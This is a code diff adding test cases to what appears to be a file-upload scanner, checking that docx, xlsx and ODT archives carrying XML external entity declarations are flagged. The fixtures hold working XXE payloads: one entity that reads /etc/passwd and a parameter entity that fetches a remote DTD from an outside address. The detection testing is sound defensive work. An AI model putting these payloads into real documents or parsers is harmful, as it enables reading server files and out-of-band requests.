@@ -421,3 +421,39 @@ describe('active-content: gzip-compressed markup (.svgz)', () => {
     expect(await active('big.svgz', gzipSync(long))).toEqual(['incomplete']);
   });
 });
+
+describe('active-content: external entities inside document parts', () => {
+  const xxe =
+    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>';
+  it.each([
+    [
+      'a docx whose document.xml declares an external entity',
+      'letter.docx',
+      zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': { data: xxe, deflate: true } }),
+      ['xxe'],
+    ],
+    [
+      'an xlsx whose [Content_Types].xml declares a parameter entity',
+      'sheet.xlsx',
+      zip({
+        '[Content_Types].xml':
+          '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]><Types/>',
+        'xl/workbook.xml': '<workbook/>',
+      }),
+      ['xxe'],
+    ],
+    [
+      'an ODT with an internal entity only',
+      'doc.odt',
+      zip({
+        mimetype: 'application/vnd.oasis.opendocument.text',
+        'content.xml':
+          '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY co "ACME">]><office:document>&co;</office:document>',
+      }),
+      [],
+    ],
+    ['a zip with a text file that quotes an entity declaration', 'notes.zip', zip({ 'notes.txt': xxe }), []],
+  ])('%s', async (_label, name, bytes, expected) => {
+    expect(await active(name, bytes)).toEqual(expected);
+  });
+});
